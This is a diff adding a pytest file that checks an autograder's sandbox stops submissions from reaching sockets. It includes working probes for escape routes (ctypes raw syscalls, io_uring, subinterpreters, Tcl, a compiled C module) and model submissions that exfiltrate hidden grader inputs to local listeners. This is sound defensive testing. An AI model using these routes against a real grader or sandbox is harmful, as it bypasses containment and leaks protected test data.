@@ -1,0 +1,443 @@
+"""No submission reaches the network or a UNIX socket outside its sandbox, by any route, whatever native code it runs.
+
+Listeners on this machine (tests/listeners.py: UDP and TCP on 127.0.0.1, UNIX stream and datagram sockets by path
+and by abstract name) wait for what a worker sends. A probe tries each route a submission found or could find:
+the socket module, a datagram socket pair aimed at a path, the C library through ctypes (``socket`` and the raw
+system call), io_uring (which makes sockets seccomp never sees), a subinterpreter (which has none of the guard's
+audit hooks) and Tcl (which raises no audit event at all). It runs with the guard out of the way, as
+test_sandbox's ``test_landlock_holds_where_the_guard_is_gone`` does, once with Landlock and once without, so that
+the seccomp filter alone is what is tested; a control run without any kernel rule shows that each route is real
+and the listeners hear it. Whole gradings (``python -m grader``, the guard on) of capstone submissions that send
+every input they are given, by Tcl and by a compiled module written into scratch, score what an honest stub scores
+and deliver nothing. Issue 40; the shared design "isolation", sections 1 and 5.
+"""
+
+import base64
+import json
+import os
+import shutil
+import subprocess
+import sys
+import sysconfig
+
+import pytest
+
+from conftest import ROOT, run_grader
+from listeners import Listeners, reach_every_listener
+
+from grader.isolation import kernel_rules
+from grader.isolation import sandbox as sandbox_module
+from grader.isolation.limits import Limits
+from grader.isolation.sandbox import Sandbox
+from grader.isolation.transport_portable import portable_worker
+from grader.judging.harness import Responder, Transcript
+from grader.judging.scripted_models import NeverCorrects
+
+pytestmark = [
+    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the kernel's rules are Linux's"),
+    pytest.mark.skipif(portable_worker(), reason="the portable transport applies no kernel rules yet (issue 41)"),
+]
+SECCOMP = pytest.mark.skipif(not kernel_rules.seccomp_available(),
+                             reason="this kernel or architecture has no seccomp filter: the guard alone refuses sockets "
+                                    "here (the filter's program is still tested, in test_seccomp_filter.py)")
+
+UNGUARDED = sandbox_module.WORKER_SOURCE.replace("    sys.addaudithook(hook)", "    pass  # guard off for this test")
+
+# Every route a submission has to a listener. Each entry answers "sent" or "refused: <why>"; a route this Python
+# lacks answers "absent: <why>".
+PROBE = r'''
+import errno, json, os, socket
+
+def attempt(action):
+    try:
+        action()
+        return "sent"
+    except ImportError as exc:
+        return "absent: " + str(exc)
+    except Exception as exc:
+        return "refused: " + type(exc).__name__ + ": " + str(exc)[:120]
+
+def udp(t):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(b"udp", ("127.0.0.1", t["udp_port"]))
+
+def tcp(t):
+    with socket.create_connection(("127.0.0.1", t["tcp_port"]), timeout=2) as s:
+        s.sendall(b"tcp")
+
+def unix(address, kind):
+    with socket.socket(socket.AF_UNIX, kind) as s:
+        if kind == socket.SOCK_STREAM:
+            s.settimeout(2)
+            s.connect(address)
+            s.sendall(b"unix")
+        else:
+            s.sendto(b"unix", address)
+
+def datagram_pair(t):
+    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    with first, second:
+        first.sendto(b"pair", t["unix_dgram"])
+
+def stream_pair(t):
+    first, second = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    with first, second:
+        first.sendall(b"ping")
+        assert second.recv(4) == b"ping"
+        try:
+            first.sendto(b"pair", t["unix_dgram"])
+        except OSError as exc:  # a connected stream socket ignores no address: EISCONN
+            if exc.errno != errno.EISCONN:
+                raise
+    raise PermissionError("a stream pair works and reaches nothing outside")
+
+def libc():
+    import ctypes
+    return ctypes, ctypes.CDLL(None, use_errno=True)
+
+def sockaddr_in(ctypes, port):
+    import struct
+    return ctypes.create_string_buffer(struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port),
+                                                   socket.inet_aton("127.0.0.1")), 16)
+
+def ctypes_socket(t, raw=False):
+    ctypes, c = libc()
+    fd = c.syscall(41 if os.uname().machine == "x86_64" else 198, 2, 2, 0) if raw else c.socket(2, 2, 0)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    address = sockaddr_in(ctypes, t["udp_port"])
+    sent = c.sendto(fd, b"ctypes", 6, 0, address, 16)
+    os.close(fd)
+    if sent < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+
+def io_uring(t):
+    ctypes, c = libc()
+    params = ctypes.create_string_buffer(120)
+    fd = c.syscall(425, 8, params)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    os.close(fd)  # a ring exists: IORING_OP_SOCKET would make a socket no filter sees
+
+SUBINTERPRETER_CODE = """
+import socket
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+    s.sendto(b"subinterpreter", ("127.0.0.1", %d))
+"""
+
+def subinterpreter(t):
+    import _xxsubinterpreters as interpreters
+    interpreter = interpreters.create()
+    try:
+        interpreters.run_string(interpreter, SUBINTERPRETER_CODE % t["udp_port"])
+    finally:
+        interpreters.destroy(interpreter)
+
+def testcapi_subinterpreter(t):
+    import _testcapi
+    marker = os.path.join(os.getcwd(), "subinterpreter.txt")
+    status = _testcapi.run_in_subinterp(
+        "try:\n" + "".join("    " + line + "\n" for line in (SUBINTERPRETER_CODE % t["udp_port"]).strip().splitlines())
+        + "    outcome = 'sent'\nexcept Exception as exc:\n    outcome = type(exc).__name__\n"
+        + "open(%r, 'w').write(outcome)\n" % marker)
+    with open(marker) as handle:
+        outcome = handle.read()
+    if outcome != "sent":
+        raise PermissionError("inside the subinterpreter: " + outcome)
+
+def tcl(t):
+    import tkinter
+    interpreter = tkinter.Tcl()
+    channel = interpreter.eval("socket 127.0.0.1 %d" % t["tcp_port"])
+    interpreter.eval("puts %s tcl; close %s" % (channel, channel))
+
+def handle(targets):
+    t = targets
+    return {
+        "udp": attempt(lambda: udp(t)),
+        "tcp": attempt(lambda: tcp(t)),
+        "unix stream by path": attempt(lambda: unix(t["unix_stream"], socket.SOCK_STREAM)),
+        "unix datagram by path": attempt(lambda: unix(t["unix_dgram"], socket.SOCK_DGRAM)),
+        "abstract stream": attempt(lambda: unix("\0" + t["abstract_stream"], socket.SOCK_STREAM)),
+        "abstract datagram": attempt(lambda: unix("\0" + t["abstract_dgram"], socket.SOCK_DGRAM)),
+        "datagram socket pair to a path": attempt(lambda: datagram_pair(t)),
+        "stream socket pair": attempt(lambda: stream_pair(t)),
+        "ctypes socket": attempt(lambda: ctypes_socket(t)),
+        "ctypes raw system call": attempt(lambda: ctypes_socket(t, raw=True)),
+        "io_uring": attempt(lambda: io_uring(t)),
+        "subinterpreter": attempt(lambda: subinterpreter(t)),
+        "_testcapi subinterpreter": attempt(lambda: testcapi_subinterpreter(t)),
+        "tcl": attempt(lambda: tcl(t)),
+    }
+'''
+
+
+def probe(monkeypatch, targets, landlock=True, seccomp=True):
+    """Run PROBE's ``handle(targets)`` in a worker with the guard off; return its answers (dict: route -> str).
+
+    ``landlock``/``seccomp`` False: that part of the kernel's plan is left out (the other rules stay as they are)."""
+    prepare = kernel_rules.prepare
+
+    def plan(scratch):
+        landlock_plan, seccomp_plan = prepare(scratch)
+        return (landlock_plan if landlock else None), (seccomp_plan if seccomp else (None, None))
+
+    monkeypatch.setattr(sandbox_module, "WORKER_SOURCE", UNGUARDED)
+    monkeypatch.setattr(kernel_rules, "prepare", plan)
+    sandbox = Sandbox(Limits(case_seconds=20.0))
+    try:
+        sandbox.begin_load([{"label": "probe.py", "kind": "file", "code": PROBE}], ["handle"])
+        assert sandbox.load().fatal is None
+        outcome = sandbox.run("handle", [[targets]], {}, Responder(Transcript(), NeverCorrects("{}"), lambda n, a: "ok"))
+    finally:
+        sandbox.close()
+    assert outcome.problem is None, outcome.problem
+    return outcome.results[0]["result"]["plain"]
+
+
+def routes_that_got_through(answers):
+    return {route: answer for route, answer in answers.items() if not answer.startswith(("refused", "absent"))}
+
+
+@pytest.fixture
+def listeners():
+    with Listeners() as opened:
+        yield opened
+
+
+def test_the_listeners_hear_an_unconfined_process(listeners):
+    """The control for every test below: nothing arriving means something only if these arrive."""
+    reach_every_listener(listeners.targets)
+    # A stream listener records the connection, then its bytes; a datagram listener the datagram.
+    expected = {"udp": 1, "tcp": 2, "unix_stream": 2, "unix_dgram": 1, "abstract_stream": 2, "abstract_dgram": 1}
+    assert listeners.wait_until_reached(expected) == expected
+    assert [data for data in listeners.received["tcp"] if data] == [b"control"]
+
+
+@SECCOMP
+@pytest.mark.parametrize("landlock", [True, False], ids=["with Landlock", "seccomp alone"])
+def test_no_route_reaches_a_listener_where_the_guard_is_gone(monkeypatch, listeners, landlock):
+    answers = probe(monkeypatch, listeners.targets, landlock=landlock)
+    assert routes_that_got_through(answers) == {}
+    assert listeners.nothing_reached() == {}
+    # Each refusal is the kernel's (EPERM as PermissionError), not a route that was simply missing here.
+    for route in ("udp", "tcp", "unix stream by path", "unix datagram by path", "abstract stream", "abstract datagram",
+                  "datagram socket pair to a path", "ctypes socket", "ctypes raw system call", "io_uring"):
+        assert answers[route].startswith("refused: PermissionError"), (route, answers[route])
+    assert answers["stream socket pair"] == "refused: PermissionError: a stream pair works and reaches nothing outside"
+    # The subinterpreter's own PermissionError, as this version's RunFailedError words it.
+    assert answers["subinterpreter"].startswith("refused: RunFailedError") \
+        and "PermissionError" in answers["subinterpreter"], answers["subinterpreter"]
+    assert answers["_testcapi subinterpreter"] == "refused: PermissionError: inside the subinterpreter: PermissionError"
+    if not answers["tcl"].startswith("absent"):
+        assert answers["tcl"].startswith("refused: TclError"), answers["tcl"]
+
+
+def test_each_route_is_real_without_the_kernel_s_rules(monkeypatch, listeners):
+    """The same probe with neither the guard nor any kernel rule: what it sends arrives (the design's "sent"
+    column), so the test above fails if the filter lets a route through. io_uring only makes its ring here."""
+    answers = probe(monkeypatch, listeners.targets, landlock=False, seccomp=False)
+    got_through = routes_that_got_through(answers)
+    # Tcl and the subinterpreter modules differ by build and version (_xxsubinterpreters is _interpreters on 3.13);
+    # a host may disable io_uring (kernel.io_uring_disabled). Every other route exists on every Linux.
+    optional = {"tcl", "subinterpreter", "_testcapi subinterpreter", "io_uring"}
+    missing = {route for route, answer in answers.items() if route in optional and answer != "sent"}
+    expected = set(answers) - {"stream socket pair"} - missing
+    assert set(got_through) == expected, answers
+    assert answers["stream socket pair"] == "refused: PermissionError: a stream pair works and reaches nothing outside"
+    # udp: the socket module, ctypes twice, two subinterpreters; unix_dgram: by path and through the datagram pair;
+    # tcp: the socket module, then Tcl where it exists (each a connection and its bytes).
+    least = {"udp": 3 + len(expected & {"subinterpreter", "_testcapi subinterpreter"}), "tcp": 4 if "tcl" in expected else 2, "unix_stream": 2, "unix_dgram": 2, "abstract_stream": 2,
+             "abstract_dgram": 1}
+    reached = listeners.wait_until_reached(least)
+    assert all(reached.get(name, 0) >= count for name, count in least.items()), reached
+
+
+# -- whole gradings: the guard on, every input sent by routes the guard does not see ------------------------------
+
+# A capstone submission that sends every raw call the grader gives it (hidden ones included) to the listeners by
+# Tcl, which raises no audit event, and returns nothing, as the shipped stub does.
+TCL_SUBMISSION = r'''
+import tkinter
+TARGETS = %(targets)s
+LOG = []
+try:
+    TCL = tkinter.Tcl()
+except Exception as exc:
+    TCL = None
+    LOG.append("no Tcl: %%s" %% type(exc).__name__)
+
+def send(text):
+    if TCL is None:
+        return
+    try:
+        channel = TCL.eval("socket 127.0.0.1 %%d" %% TARGETS["tcp_port"])
+        TCL.eval("puts %%s {%%s}; close %%s" %% (channel, text.replace("{", "(").replace("}", ")")[:200], channel))
+        LOG.append("sent")
+    except Exception as exc:
+        LOG.append("refused: %%s" %% type(exc).__name__)
+
+send("loaded")
+print("EXFILTRATION LOG:", sorted(set(LOG)))
+
+def handle_tool_call(raw, ask_model):
+    send(str(raw))
+    return None
+'''
+
+# The same by native code written into scratch and loaded under a plain name: a module compiled for this test, whose
+# send() opens a UDP socket, a UNIX datagram socket aimed at a path and a UNIX stream connection by path, in C.
+NATIVE_SOURCE = r'''
+#define PY_SSIZE_T_CLEAN
+#include <Python.h>
+#include <errno.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+#include <unistd.h>
+
+static PyObject *send_all(PyObject *self, PyObject *args) {
+    const char *text, *dgram_path, *stream_path;
+    Py_ssize_t size;
+    int port;
+    if (!PyArg_ParseTuple(args, "s#iss", &text, &size, &port, &dgram_path, &stream_path)) return NULL;
+    int refused = 0, sent = 0;
+    int fd = socket(AF_INET, SOCK_DGRAM, 0);
+    if (fd < 0) { refused++; } else {
+        struct sockaddr_in to; memset(&to, 0, sizeof to);
+        to.sin_family = AF_INET; to.sin_port = htons(port); to.sin_addr.s_addr = inet_addr("127.0.0.1");
+        if (sendto(fd, text, size, 0, (struct sockaddr *)&to, sizeof to) >= 0) sent++; else refused++;
+        close(fd);
+    }
+    struct sockaddr_un unix_to; memset(&unix_to, 0, sizeof unix_to); unix_to.sun_family = AF_UNIX;
+    strncpy(unix_to.sun_path, dgram_path, sizeof unix_to.sun_path - 1);
+    fd = socket(AF_UNIX, SOCK_DGRAM, 0);
+    if (fd < 0) { refused++; } else {
+        if (sendto(fd, text, size, 0, (struct sockaddr *)&unix_to, sizeof unix_to) >= 0) sent++; else refused++;
+        close(fd);
+    }
+    int pair[2];
+    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0) { refused++; } else {
+        if (sendto(pair[0], text, size, 0, (struct sockaddr *)&unix_to, sizeof unix_to) >= 0) sent++; else refused++;
+        close(pair[0]); close(pair[1]);
+    }
+    memset(unix_to.sun_path, 0, sizeof unix_to.sun_path);
+    strncpy(unix_to.sun_path, stream_path, sizeof unix_to.sun_path - 1);
+    fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    if (fd < 0) { refused++; } else {
+        if (connect(fd, (struct sockaddr *)&unix_to, sizeof unix_to) == 0 && write(fd, text, size) >= 0) sent++;
+        else refused++;
+        close(fd);
+    }
+    return Py_BuildValue("(ii)", sent, refused);
+}
+
+static PyMethodDef methods[] = {{"send_all", send_all, METH_VARARGS, "send text everywhere"}, {NULL, NULL, 0, NULL}};
+static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "kit_native_probe", NULL, -1, methods};
+PyMODINIT_FUNC PyInit_kit_native_probe(void) { return PyModule_Create(&module); }
+'''
+
+NATIVE_SUBMISSION = r'''
+import _imp, base64, importlib.machinery, os
+TARGETS = %(targets)s
+LOG = []
+try:
+    path = os.path.join(os.getcwd(), "kit_native_probe.so")
+    with open(path, "wb") as handle:
+        handle.write(base64.b64decode(%(module)r))
+    NATIVE = _imp.create_dynamic(importlib.machinery.ModuleSpec("kit_native_probe", None, origin=path))
+except Exception as exc:
+    NATIVE = None
+    LOG.append("not loaded: %%s: %%s" %% (type(exc).__name__, exc))
+
+def send(text):
+    if NATIVE is not None:
+        sent, refused = NATIVE.send_all(text[:200], TARGETS["udp_port"], TARGETS["unix_dgram"], TARGETS["unix_stream"])
+        LOG.append("sent %%d refused %%d" %% (sent, refused))
+
+send("loaded")
+print("EXFILTRATION LOG:", sorted(set(LOG)))
+
+def handle_tool_call(raw, ask_model):
+    send(str(raw))
+    return None
+'''
+
+
+def native_module(folder):
+    """Compile NATIVE_SOURCE with the C compiler into ``folder``; the module's bytes, or None with the reason."""
+    compiler = shutil.which(os.environ.get("CC", "cc")) or shutil.which("gcc")
+    include = sysconfig.get_paths().get("include")
+    if compiler is None or not include or not os.path.exists(os.path.join(include, "Python.h")):
+        return None, "no C compiler or no Python headers here to build the native probe"
+    source, target = os.path.join(folder, "probe.c"), os.path.join(folder, "probe.so")
+    with open(source, "w", encoding="utf-8") as handle:
+        handle.write(NATIVE_SOURCE)
+    built = subprocess.run([compiler, "-shared", "-fPIC", "-O0", "-I", include, source, "-o", target],
+                           capture_output=True, text=True, timeout=120)
+    if built.returncode != 0:
+        return None, "the native probe did not compile: " + built.stderr[-300:]
+    with open(target, "rb") as handle:
+        return handle.read(), ""
+
+
+def grade_capstone(tmp_path, source):
+    submission = tmp_path / "submission.py"
+    submission.write_text(source, encoding="utf-8")
+    process, results = run_grader(submission, "--exercise", "capstone", results=tmp_path / "results.json")
+    assert "Traceback" not in process.stdout + process.stderr and results is not None, process.stderr[-2000:]
+    return process, results
+
+
+@pytest.fixture(scope="module")
+def stub_score(tmp_path_factory):
+    """What the shipped capstone stub scores (the score every exfiltrating submission below must get)."""
+    stub = tmp_path_factory.mktemp("stub") / "stub.py"
+    stub.write_text("def handle_tool_call(raw, ask_model):\n    return None\n", encoding="utf-8")
+    _, results = run_grader(stub, "--exercise", "capstone", results=stub.parent / "results.json")
+    return results["score"]
+
+
+@SECCOMP
+def test_a_graded_submission_that_sends_every_input_by_tcl_delivers_nothing(tmp_path, listeners, stub_score):
+    process, results = grade_capstone(tmp_path, TCL_SUBMISSION % {"targets": json.dumps(listeners.targets)})
+    assert results["score"] == stub_score
+    assert listeners.nothing_reached() == {}
+    log = process.stdout.partition("EXFILTRATION LOG:")[2].partition("\n")[0]
+    if "no Tcl" in log:
+        pytest.skip("this Python has no Tcl (tkinter): " + log)
+    assert "refused: TclError" in log and "sent" not in log.replace("'refused", ""), log
+
+
+@SECCOMP
+def test_a_graded_submission_that_sends_every_input_from_native_code_delivers_nothing(tmp_path, listeners, stub_score):
+    module, why = native_module(str(tmp_path))
+    if module is None:
+        pytest.skip(why)
+    source = NATIVE_SUBMISSION % {"targets": json.dumps(listeners.targets),
+                                  "module": base64.b64encode(module).decode("ascii")}
+    process, results = grade_capstone(tmp_path, source)
+    assert results["score"] == stub_score
+    assert listeners.nothing_reached() == {}
+    log = process.stdout.partition("EXFILTRATION LOG:")[2].partition("\n")[0]
+    assert "'sent 0 refused 4'" in log, log  # the module loaded and each of its four sends was refused
+
+
+def test_the_native_probe_does_reach_the_listeners_unconfined(tmp_path, listeners):
+    """The control for the native grading: loaded in a plain interpreter, the same module's sends arrive."""
+    module, why = native_module(str(tmp_path))
+    if module is None:
+        pytest.skip(why)
+    path = tmp_path / "kit_native_probe.so"
+    path.write_bytes(module)
+    code = ("import _imp, importlib.machinery, json, sys\n"
+            "m = _imp.create_dynamic(importlib.machinery.ModuleSpec('kit_native_probe', None, origin=sys.argv[1]))\n"
+            "t = json.loads(sys.argv[2])\n"
+            "print(m.send_all('control', t['udp_port'], t['unix_dgram'], t['unix_stream']))\n")
+    ran = subprocess.run([sys.executable, "-c", code, str(path), json.dumps(listeners.targets)], capture_output=True,
+                         text=True, timeout=60, cwd=ROOT)
+    assert ran.stdout.strip() == "(4, 0)", ran.stderr
+    expected = {"udp": 1, "unix_dgram": 2, "unix_stream": 2}  # the pair's datagram, by path; a connection, its bytes
+    assert listeners.wait_until_reached(expected) == expected
